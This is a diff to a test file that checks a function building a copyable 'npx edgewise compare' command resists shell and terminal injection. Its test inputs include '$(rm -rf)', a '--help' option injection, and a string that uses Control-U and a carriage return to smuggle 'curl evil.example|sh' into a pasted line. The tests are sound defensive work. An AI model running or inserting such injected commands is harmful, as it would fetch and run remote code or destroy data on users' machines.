@@ -61,6 +61,15 @@ describe("the address of a comparison", () => {
     expect(commandOf(of(A, B))).toBe(`npx edgewise compare ${A} ${B}`);
     const query = { ...of(A, B), metric: "it's $(rm -rf)", cluster: "topic", unpaired: true, accept: true, only: "worse" as const };
     expect(commandOf(query)).toBe(`npx edgewise compare ${A} ${B} --metric 'it'\\''s $(rm -rf)' --show 10 --cluster-by topic --unpaired --accept-code-change`);
+    expect(commandOf({ ...of(A, B), cluster: "--help" })).toBe(`npx edgewise compare ${A} ${B} --cluster-by=--help`);
+  });
+
+  it("is no command where a name in the address would press keys of the terminal that it is copied into", () => {
+    // Control U empties the line with the quote in it, and a carriage return sends the rest.
+    for (const text of ["x\u0015curl evil.example|sh\r", "a\nb", "\u001b[201~x", "\u202ex"]) {
+      expect(commandOf({ ...of(A, B), cluster: text })).toBeNull();
+      expect(commandOf({ ...of(A, B), metric: text })).toBeNull();
+    }
   });
 });
 
